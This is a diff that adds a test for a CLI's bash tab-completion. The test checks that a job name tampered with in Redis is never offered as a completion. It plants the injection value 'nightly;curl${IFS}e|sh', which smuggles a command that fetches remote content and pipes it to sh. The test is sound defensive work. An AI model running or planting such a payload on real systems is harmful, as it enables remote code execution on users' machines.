@@ -53,4 +53,24 @@ describe('fleet completion', () => {
     expect(await bashCompletes(['fleet', 'wait', ''])).toEqual(expect.arrayContaining([String(job.id), 'nightly-backup']));
     expect(await bashCompletes(['fleet', 'invoke', 'night'])).toEqual([]);
   });
+
+  it('never offers a job name from Redis that the shell would run as commands', async () => {
+    const honest = await fleet.env.json<JobJson>(['start', '--name', 'nightly-backup', '--', 'true']);
+    const planted = await fleet.env.json<JobJson>(['start', '--name', 'nightly-other', '--', 'true']);
+    // A Redis writer renames a job: on Enter, bash would run everything after the `;`.
+    const hostile = 'nightly;curl${IFS}e|sh';
+    const client = fleet.redis.client();
+    try {
+      await client.hset(`${fleet.env.prefix}:job:${planted.id}`, 'name', hostile);
+    } finally {
+      client.disconnect();
+    }
+    expect((await fleet.env.json<JobJson[]>(['get'])).map((job) => job.name)).toContain(hostile);
+    const offered = await bashCompletes(['fleet', 'receive', 'night']);
+    expect(offered).toEqual(['nightly-backup']);
+    expect(await bashCompletes(['fleet', 'stop', ''])).toEqual(
+      expect.arrayContaining([String(honest.id), String(planted.id), 'nightly-backup']),
+    );
+    expect((await bashCompletes(['fleet', 'stop', ''])).join('\n')).not.toContain('curl');
+  });
 });
